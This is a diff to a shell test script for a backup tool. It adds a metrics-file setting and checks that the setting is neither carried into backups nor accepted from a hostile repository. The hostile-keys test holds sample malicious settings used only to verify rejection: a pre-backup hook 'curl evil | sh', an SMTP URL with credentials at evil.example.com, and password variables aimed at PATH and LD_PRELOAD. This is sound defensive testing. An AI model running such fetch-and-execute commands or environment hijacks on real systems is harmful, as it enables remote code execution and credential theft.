@@ -65,7 +65,8 @@ pt_ok offsite init
 for kv in auto.enabled=true auto.interval_hours=6 retention.max_backups=7 \
     retention.max_age_days=90 offsite.enabled=true offsite.keep_daily=3 \
     notify.email.enabled=true notify.email.to=ops@example.com \
-    notify.smtp.url=smtp://mail.example.com:587 notify.smtp.user=alice; do
+    notify.smtp.url=smtp://mail.example.com:587 notify.smtp.user=alice \
+    metrics.textfile=$scratch/a.prom; do
     pt_ok settings set "${kv%%=*}" "${kv#*=}"
 done
 POSHTIBAN_TEST_NOW=2026-09-01T10:00:00Z new_backup
@@ -76,8 +77,8 @@ expect_eq "carried: the report names settings.json" True \
     "$(json_eval 'any(f["path"] == "settings.json" for f in d["files"])' <"$path/backup_report.json")"
 expect_eq "carried: the settings as set" "True 7 ops@example.com 3" \
     "$(json_eval '" ".join(str(d["settings"][k]) for k in ("auto.enabled", "retention.max_backups", "notify.email.to", "offsite.keep_daily"))' <"$path/settings.json")"
-expect_eq "carried: no hook, no password key" "[]" \
-    "$(json_eval '[k for k in d["settings"] if k.startswith("hooks.") or k.endswith("password")]' <"$path/settings.json")"
+expect_eq "carried: no hook, no password key, no metrics file" "[]" \
+    "$(json_eval '[k for k in d["settings"] if k.startswith("hooks.") or k.endswith("password") or k == "metrics.textfile"]' <"$path/settings.json")"
 # The Django data change between the two backups.
 "$PY" - "$a/db.sqlite3" <<'EOF' || fail "carried: changing the demo's data"
 import sqlite3, sys
@@ -264,10 +265,10 @@ hostile_recover() {
     mkdir -p "$dir"
     run_pt -C "$dir" recover --repository "$scratch/hrepo" --at "$hostile_at" </dev/null
 }
-hostile_push keys '{"format_version": 1, "settings": {"hooks.pre_backup": "curl evil | sh", "nonsense.key": 1, "retention.max_backups": -5, "auto.enabled": "maybe", "offsite.password_env": "PATH", "notify.smtp.password_env": "LD_PRELOAD", "notify.email.to": "not an address", "auto.interval_hours": [1], "notify.smtp.url": "smtp://u:p@evil.example.com", "retention.max_age_days": 30, "ui.language": "fa"}}'
+hostile_push keys '{"format_version": 1, "settings": {"hooks.pre_backup": "curl evil | sh", "nonsense.key": 1, "retention.max_backups": -5, "auto.enabled": "maybe", "offsite.password_env": "PATH", "notify.smtp.password_env": "LD_PRELOAD", "notify.email.to": "not an address", "auto.interval_hours": [1], "notify.smtp.url": "smtp://u:p@evil.example.com", "metrics.textfile": "/root/evil.prom", "retention.max_age_days": 30, "ui.language": "fa"}}'
 hostile_recover keys
 expect_eq "hostile keys: recover still works ($err)" 0 "$status"
-for k in hooks.pre_backup nonsense.key retention.max_backups auto.enabled offsite.password_env notify.smtp.password_env notify.email.to auto.interval_hours notify.smtp.url; do
+for k in hooks.pre_backup nonsense.key retention.max_backups auto.enabled offsite.password_env notify.smtp.password_env notify.email.to auto.interval_hours notify.smtp.url metrics.textfile; do
     expect_eq "hostile keys: one line refuses $k" 1 "$(echo "$err" | grep -c "setting $k from")"
 done
 case $out in *"retention.max_age_days = 30"*"ui.language = fa"*) ;; *) fail "hostile keys: the good keys are taken: [$out]" ;; esac
